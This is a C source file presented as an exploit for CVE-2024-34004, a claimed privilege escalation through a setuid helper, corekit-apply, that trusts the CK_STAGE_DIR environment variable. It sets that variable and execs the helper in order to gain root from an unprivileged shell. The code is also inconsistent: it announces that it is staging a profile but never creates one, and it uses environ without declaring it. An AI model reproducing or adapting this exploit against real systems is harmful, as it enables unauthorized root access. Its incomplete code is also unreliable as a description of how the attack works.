/*
 * CVE-2024-34004: CoreKit ships a setuid helper (corekit-apply) that
 * trusts the CK_STAGE_DIR environment variable when staging profile
 * updates. Pointing it at a writable directory escalates to root from
 * any low-privileged user shell.
 *
 * Build: cc -o exploit exploit.c
 */

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *helper = "/usr/libexec/corekit-apply";

int main(int argc, char **argv) {
    int opt;
    const char *stage = "/tmp/ck-stage";

    while ((opt = getopt(argc, argv, "s:h")) != -1) {
        switch (opt) {
        case 's':
            stage = optarg;
            break;
        default:
            fprintf(stderr, "usage: %s [-s stage-dir]\n", argv[0]);
            return 1;
        }
    }

    /* Stage a profile whose post-apply hook re-owns our helper copy. */
    char profile[512];
    snprintf(profile, sizeof profile, "%s/profile.d/zz-fixture", stage);
    printf("staging inert profile at %s\n", profile);

    if (setenv("CK_STAGE_DIR", stage, 1) != 0) {
        perror("setenv");
        return 1;
    }

    /* The helper runs with the file owner's id because of its setuid bit. */
    char *const args[] = {(char *)helper, "--apply-pending", NULL};
    execve(helper, args, environ);
    perror("execve");
    return 1;
}
